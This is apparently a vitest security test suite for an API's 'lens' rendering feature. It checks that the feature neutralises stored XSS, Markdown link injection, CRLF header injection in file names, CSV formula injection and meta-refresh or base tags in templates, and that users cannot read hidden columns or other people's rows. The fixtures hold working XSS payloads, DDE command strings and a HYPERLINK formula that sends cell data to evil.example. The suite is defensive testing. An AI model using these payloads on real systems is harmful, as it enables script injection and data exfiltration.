import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServer, type Reply, type TestServer } from '../support/harness.js'
import { signUpOwner, type Account } from '../support/identity.js'
import { accountWithGrants } from './collections-support.js'

/**
 * The security review of lens rendering (issue 25, deliver item 5), as attacks over real HTTP by people
 * with narrow custom roles: stored XSS through record values in every HTML context, Markdown links made
 * of values, the headers the rendered page is served with, a lens name aimed at the response headers,
 * spreadsheet formulas in CSV, a save-time template check dodged with comments and tags, parameters aimed
 * at hidden columns and other people's rows, a sort that would order by a hidden column, and another
 * project's lens.
 */
const LENSES = '/api/v1/lenses'
const TICKETS = '/api/v1/collections/tickets/records'
let server: TestServer
let owner: Account
/** system/lenses manage; reads and writes every ticket. */
let manager: Account
/** system/lenses read; reads tickets' title, link, status and rank only (never secret). */
let narrow: Account
/** system/lenses read; reads and creates tickets, but reads only the ones they created. */
let mine: Account
/** Same role as `mine`, another person. */
let other: Account

const request = (
  method: string,
  path: string,
  token: string | undefined,
  body?: unknown,
  headers?: Record<string, string>,
): Promise<Reply> => server.request(method, path, { token, body, headers })
const render = (id: string, token: string, query = ''): Promise<Reply> =>
  request('GET', `${LENSES}/${id}/render${query}`, token)

/** Creates and publishes a lens over tickets as the manager; its id. */
async function published(body: Record<string, unknown>): Promise<string> {
  const created = await request('POST', LENSES, manager.token, { collection: 'tickets', ...body })
  expect(created.status, created.text).toBe(201)
  const reply = await request('POST', `${LENSES}/${created.body.data.id}/publish`, manager.token, {})
  expect(reply.status, reply.text).toBe(200)
  return created.body.data.id as string
}

async function ticket(token: string, values: Record<string, unknown>): Promise<string> {
  const reply = await request('POST', TICKETS, token, values)
  expect(reply.status, reply.text).toBe(201)
  return reply.body.id as string
}

function refused(reply: Reply, status: number, code: string): void {
  expect(reply.status, reply.text).toBe(status)
  expect(reply.body).toMatchObject({ error: code, message: expect.any(String) })
}

/** The entities docs/lenses.md promises for HTML: what every value written into a page becomes. */
const entities: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
  '`': '&#96;',
  '=': '&#61;',
}
const asHtmlText = (value: string) => value.replace(/[&<>"'`=]/g, (c) => entities[c]!)

/** Record values an attacker with write access to tickets stores, each aimed at one HTML context. */
const hostile = [
  { title: '<script>alert(1)</script>', link: 'javascript:alert(document.domain)', rank: 1 },
  { title: '"><img src=x onerror=alert(1)>', link: ' java\tscript:alert(1)', rank: 2 },
  { title: "' onmouseover='alert(1)", link: 'https://ok.example/', rank: 3 },
  { title: 'x onfocus=alert(1) autofocus', link: 'data:text/html,<script>alert(1)</script>', rank: 4 },
  { title: '</style><script>alert(1)</script>', link: '/', rank: 5 },
  { title: '--><script>alert(1)</script><!--', link: '/', rank: 6 },
  { title: '</textarea><script>alert(1)</script>', link: '/', rank: 7 },
  { title: '&lt;script&gt; `${alert(1)}` \uFF1Cscript\uFF1E \u2028 \u202Egnp.exe', link: '/', rank: 8 },
  { title: '[click](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example>', link: '/', rank: 9 },
]

beforeAll(async () => {
  server = await startServer()
  owner = await signUpOwner(server)
  const fields = [
    { name: 'title', type: 'text', required: true },
    { name: 'link', type: 'text', required: false },
    { name: 'status', type: 'text', required: false },
    { name: 'secret', type: 'text', required: false },
    { name: 'rank', type: 'integer', required: false },
  ]
  const created = await request('POST', '/api/v1/collections', owner.token, { name: 'tickets', fields })
  expect(created.status, created.text).toBe(201)
  for (const row of hostile) await ticket(owner.token, { ...row, status: 'open', secret: `s-${row.rank}` })
  const all = { resource: 'collections/tickets', action: 'read' }
  manager = await accountWithGrants(server, owner.token, [{ resource: 'system/lenses', action: 'manage' }, all])
  narrow = await accountWithGrants(server, owner.token, [
    { resource: 'system/lenses', action: 'read' },
    { ...all, fields: ['title', 'link', 'status', 'rank'] },
  ] as never)
  const own = [
    { resource: 'system/lenses', action: 'read' },
    { ...all, item_filter: { created_by: { _eq: '$CURRENT_USER' } } },
    { resource: 'collections/tickets', action: 'create' },
  ]
  mine = await accountWithGrants(server, owner.token, own as never)
  other = await accountWithGrants(server, owner.token, own as never)
})
afterAll(async () => {
  await server?.stop()
})

describe('stored XSS through record values', () => {
  it('every value is text in every HTML context a template puts it in: element, quoted and unquoted attributes, style, textarea, comment', async () => {
    const row =
      '<p>{{title}}</p><a href="{{link}}" title=\'{{title}}\' data-u={{title}}>go</a><style>p::after{content:"{{title}}"}</style><textarea>{{title}}</textarea><!-- {{title}} -->'
    const id = await published({
      name: 'Every context',
      fields: ['title', 'link'],
      sort: [{ field: 'rank', order: 'asc' }],
      template: { html: `{{#rows}}${row}\n{{/rows}}` },
    })
    const reply = await render(id, narrow.token)
    expect(reply.status, reply.text).toBe(200)
    const expected = hostile
      .map((h) => row.replaceAll('{{title}}', asHtmlText(h.title)).replaceAll('{{link}}', asHtmlText(h.link)))
      .join('\n')
    expect(reply.text).toBe(`${expected}\n`)
    // What each value was aimed at, spelled out: no element, no event handler, no way out of a raw-text element or a comment.
    expect(reply.text).not.toMatch(
      /<script|<img|\son(error|mouseover|focus)=|<\/style><script|--><script|<\/textarea><script/i,
    )
  })

  it('the default page and the page title show values as text', async () => {
    const id = await published({
      name: '<script>alert("name")</script>',
      fields: ['title'],
      sort: [{ field: 'rank', order: 'asc' }],
    })
    const reply = await render(id, narrow.token)
    expect(reply.status, reply.text).toBe(200)
    expect(reply.text).toContain('<title>&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;</title>')
    expect(reply.text).toContain(`<td>${asHtmlText(hostile[1]!.title)}</td>`)
    expect(reply.text).not.toMatch(/<script|<img/i)
  })

  it('a Markdown render cannot make a value into a link, an image, an autolink or raw HTML', async () => {
    const id = await published({ name: 'Markdown', fields: ['title', 'link'], sort: [{ field: 'rank', order: 'asc' }] })
    const reply = await render(id, narrow.token, '?format=md')
    expect(reply.status, reply.text).toBe(200)
    expect(reply.headers.get('content-type')).toBe('text/markdown; charset=utf-8')
    const cells = reply.text.split('\n').slice(4).join('\n')
    // No tag, no unescaped [text](url) or ![alt](src), no <autolink>, and a row stays one line.
    expect(cells).not.toMatch(/<|(?<!\\)\]\(|(?<!\\)!\[/)
    expect(cells).toContain(
      '\\[click\\]\\(javascript:alert\\(1\\)\\) \\!\\[x\\]\\(https://evil.example/p.png\\) &lt;https://evil.example&gt;',
    )
    expect(reply.text.split('\n').filter((line) => line.startsWith('|'))).toHaveLength(hostile.length + 2)
  })
})

describe('how a render is served', () => {
  it('the HTML page runs nothing and loads nothing, even where a value is a javascript: link, and cannot be framed or sniffed', async () => {
    const id = await published({
      name: 'Links',
      fields: ['title', 'link'],
      template: { html: '{{#rows}}<a href="{{link}}">{{title}}</a>{{/rows}}' },
    })
    const reply = await render(id, narrow.token)
    expect(reply.status, reply.text).toBe(200)
    // The value is a link the template asked for; what stops it is the page's policy.
    expect(reply.text).toContain('href="javascript:alert(document.domain)"')
    expect(reply.headers.get('content-type')).toBe('text/html; charset=utf-8')
    const policy = (reply.headers.get('content-security-policy') ?? '').split(';').map((d) => d.trim())
    expect(policy).toContain('sandbox')
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("base-uri 'none'")
    expect(policy).toContain("form-action 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy.join(';')).not.toMatch(
      /allow-scripts|allow-same-origin|allow-top-navigation|allow-popups|script-src|connect-src|unsafe-eval/,
    )
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff')
    expect(reply.headers.get('x-frame-options')).toBe('DENY')
    expect(reply.headers.get('cache-control')).toBe('no-store')
    for (const format of ['csv', 'md']) {
      const other = await render(id, narrow.token, `?format=${format}`)
      expect(other.status, other.text).toBe(200)
      expect(other.headers.get('x-content-type-options')).toBe('nosniff')
      expect(other.headers.get('content-security-policy')).toContain("default-src 'none'")
    }
  })

  it('a lens name cannot add a response header or turn the download into another file type', async () => {
    const id = await published({ name: 'report.html"; filename="x.html\r\nX-Injected: yes', fields: ['title'] })
    for (const format of ['csv', 'md']) {
      const reply = await render(id, narrow.token, `?format=${format}`)
      expect(reply.status, reply.text).toBe(200)
      expect(reply.headers.get('x-injected')).toBeNull()
      expect(reply.headers.get('content-disposition')).toBe(
        `inline; filename="report-html-filename-x-html-X-Injected-yes.${format}"`,
      )
    }
  })

  it('csv: every lead character a spreadsheet reads as a formula is neutralised, in quoted fields too', async () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"x")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=1,2',
    ]
    const created = await request('POST', '/api/v1/collections', owner.token, {
      name: 'sheet',
      fields: [
        { name: 'cell', type: 'text', required: false },
        { name: 'n', type: 'integer', required: false },
      ],
    })
    expect(created.status, created.text).toBe(201)
    for (const [n, cell] of formulas.entries())
      expect((await request('POST', '/api/v1/collections/sheet/records', owner.token, { cell, n: -n })).status).toBe(
        201,
      )
    const lens = await request('POST', LENSES, owner.token, {
      name: 'Sheet',
      collection: 'sheet',
      fields: ['cell', 'n'],
      sort: [{ field: 'n', order: 'desc' }],
    })
    expect(lens.status, lens.text).toBe(201)
    const reply = await render(lens.body.data.id, owner.token, '?format=csv&draft=true')
    expect(reply.status, reply.text).toBe(200)
    expect(reply.text).toBe(
      [
        'cell,n',
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")",0',
        "'+1+cmd|' /C calc'!A0,-1",
        "'-2+3+cmd|' /C calc'!A0,-2",
        "'@SUM(1+1)*cmd|' /C calc'!A0,-3",
        "'\t=1+1,-4",
        '"\'\r=1+1",-5',
        '"\'=1,2",-6',
        '',
      ].join('\r\n'),
    )
  })
})

describe('the save-time check of a page template', () => {
  it('a refresh or a base URL is refused however the template spells it: case, a slash, a comment, an empty value or a section in the middle', async () => {
    const templates = [
      '<META HTTP-EQUIV="refresh" content="0;url=https://evil.example/">',
      '<base href="https://evil.example/">',
      '<BASE\nhref="https://evil.example/">',
      '<base/href="https://evil.example/">',
      '<meta http-{{! a comment }}equiv="refresh" content="0;url=https://evil.example/">',
      '<meta http-{{lens.nothing}}equiv="refresh" content="0;url=https://evil.example/">',
      '<meta http{{#rows}}{{/rows}}-equiv="refresh" content="0;url=https://evil.example/">',
      '<ba{{! x }}se href="https://evil.example/">',
      '<meta {{params.how}}="refresh" content="0;url=https://evil.example/">',
      '<{{params.how}} {{params.how}}="refresh" content="0;url=https://evil.example/">',
      '<me{{params.how}} {{params.how}}="refresh" content="0;url=https://evil.example/">',
    ]
    for (const html of templates) {
      const reply = await request('POST', LENSES, manager.token, {
        name: `refresh ${html.length}`,
        collection: 'tickets',
        params: [{ name: 'how' }],
        template: { html },
      })
      refused(reply, 422, 'validation_error')
      expect(reply.body.details, html).toMatchObject({ at: 'template.html' })
    }
    // A plain page with a charset, a comment and values is still fine.
    const fine = await request('POST', LENSES, manager.token, {
      name: 'fine page',
      collection: 'tickets',
      template: { html: '<meta charset="utf-8">{{! note }}<p>{{count}}</p>' },
    })
    expect(fine.status, fine.text).toBe(201)
  })
})

describe('parameters and sorting aimed at what the viewer may not read', () => {
  it('a parameter naming a hidden column in an array filter is refused for that viewer, not answered', async () => {
    const id = await published({
      name: 'Pick a field',
      fields: ['title'],
      params: [
        { name: 'f', default: 'status' },
        { name: 'v', default: 'open' },
      ],
      filter: [{ field: '{{params.f}}', op: 'eq', value: '{{params.v}}' }],
    })
    refused(await render(id, narrow.token, '?format=csv&f=secret&v=s-1'), 403, 'forbidden')
    refused(await render(id, narrow.token, '?format=csv&f=secret&v=nothing'), 403, 'forbidden')
    // The same probe works for someone who may read the column, so the refusal is the guard, not a typo.
    expect((await render(id, manager.token, '?format=csv&f=secret&v=s-1')).text).toBe(
      `title\r\n${hostile[0]!.title}\r\n`,
    )
    // A key is never a template: naming a field through one is refused when saved.
    refused(
      await request('POST', LENSES, manager.token, {
        name: 'key param',
        collection: 'tickets',
        params: [{ name: 'f' }],
        filter: { '{{params.f}}': 'x' },
      }),
      422,
      'validation_error',
    )
  })

  it('a parameter naming another person cannot show their rows', async () => {
    const theirs = await ticket(other.token, { title: 'other person private', status: 'open', secret: 's-other' })
    const own = await ticket(mine.token, { title: 'my own ticket', status: 'open', secret: 's-mine' })
    const id = await published({
      name: 'By creator',
      fields: ['id', 'title'],
      params: [{ name: 'who', required: true }],
      filter: { created_by: '{{params.who}}' },
    })
    expect((await render(id, mine.token, `?format=csv&who=${other.id}`)).text).toBe('id,title\r\n')
    expect((await render(id, mine.token, `?format=csv&who=${mine.id}`)).text).toBe(
      `id,title\r\n${own},my own ticket\r\n`,
    )
    // The lens does find the other person's row for someone who may read it.
    expect((await render(id, manager.token, `?format=csv&who=${other.id}`)).text).toBe(
      `id,title\r\n${theirs},other person private\r\n`,
    )
    // Without a filter, the viewer's row rule alone decides.
    const everything = await published({ name: 'Everything', fields: ['title'] })
    expect((await render(everything, mine.token, '?format=csv')).text).toBe('title\r\nmy own ticket\r\n')
  })

  it('a sort on a hidden column is dropped: the rows do not come in the order of its values', async () => {
    // Secrets sort against rank: s-1 … s-9 ascending is rank 1 … 9, so descending by secret would reverse rank.
    const ranked = { rank: { _nnull: true } }
    const bySecret = await published({
      name: 'By secret',
      fields: ['rank'],
      filter: ranked,
      sort: [{ field: 'secret', order: 'desc' }],
    })
    const unsorted = await published({ name: 'Unsorted', fields: ['rank'], filter: ranked })
    const viewer = (await render(bySecret, narrow.token, '?format=csv')).text
    expect(viewer).toBe((await render(unsorted, narrow.token, '?format=csv')).text)
    const sorted = (await render(bySecret, manager.token, '?format=csv')).text
    expect(sorted).toBe(
      `rank\r\n${hostile
        .map((h) => h.rank)
        .sort((a, b) => b - a)
        .join('\r\n')}\r\n`,
    )
    expect(viewer).not.toBe(sorted)
  })
})

describe('another project', () => {
  it('a lens of another project is not found, to its managers and to a super_admin acting in this one', async () => {
    const project = await request('POST', '/api/v1/projects', owner.token, { name: 'elsewhere' })
    expect(project.status, project.text).toBe(201)
    const there = { 'x-project-id': project.body.data.id as string }
    const collection = await request(
      'POST',
      '/api/v1/collections',
      owner.token,
      { name: 'tickets', fields: [{ name: 'title', type: 'text', required: true }] },
      there,
    )
    expect(collection.status, collection.text).toBe(201)
    expect((await request('POST', TICKETS, owner.token, { title: 'elsewhere secret row' }, there)).status).toBe(201)
    const lens = await request(
      'POST',
      LENSES,
      owner.token,
      { name: 'Theirs', collection: 'tickets', fields: ['title'] },
      there,
    )
    expect(lens.status, lens.text).toBe(201)
    const id = lens.body.data.id as string
    expect((await request('POST', `${LENSES}/${id}/publish`, owner.token, {}, there)).status).toBe(200)
    expect((await request('GET', `${LENSES}/${id}/render?format=csv`, owner.token, undefined, there)).text).toBe(
      'title\r\nelsewhere secret row\r\n',
    )

    for (const token of [manager.token, owner.token]) {
      refused(await request('GET', `${LENSES}/${id}`, token), 404, 'not_found')
      refused(await render(id, token, '?format=csv'), 404, 'not_found')
      refused(await render(id, token, '?format=csv&draft=true'), 404, 'not_found')
      refused(await request('GET', `${LENSES}/${id}/versions`, token), 404, 'not_found')
      refused(await request('PATCH', `${LENSES}/${id}`, token, { enabled: false }), 404, 'not_found')
      refused(await request('POST', `${LENSES}/${id}/publish`, token, {}), 404, 'not_found')
      refused(await request('DELETE', `${LENSES}/${id}`, token), 404, 'not_found')
    }
    expect((await request('GET', `${LENSES}?limit=100`, manager.token)).body.data.map((l: any) => l.id)).not.toContain(
      id,
    )
    // Untouched in its own project.
    const still = await request('GET', `${LENSES}/${id}`, owner.token, undefined, there)
    expect(still.body.data).toMatchObject({ enabled: true, publishedVersion: 1 })
  })
})
